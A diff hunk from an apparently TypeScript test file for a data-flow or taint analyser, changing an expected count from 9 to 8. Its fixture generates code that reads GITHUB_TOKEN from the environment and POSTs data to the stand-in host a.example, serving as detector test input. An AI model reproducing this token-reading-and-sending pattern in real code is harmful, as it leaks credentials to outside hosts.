@@ -170,7 +170,7 @@ describe('a file of four times the length', () => {
         (count) =>
           `const key = process.env.GITHUB_TOKEN;\nconst q: any = {};\nfetch('https://a.example/', { body: q.a0, method: 'POST' });\nfunction f(p: any, x: any) {\n${rows(count, (at) => `p.a${at} = x;\n`)}}\n${rows(count, () => 'f(q, key);\n')}`,
         // Each call is followed, up to the limit of all.
-        9,
+        8,
       ],
       [
         'names of a pattern that takes apart a call, and arguments of the call',
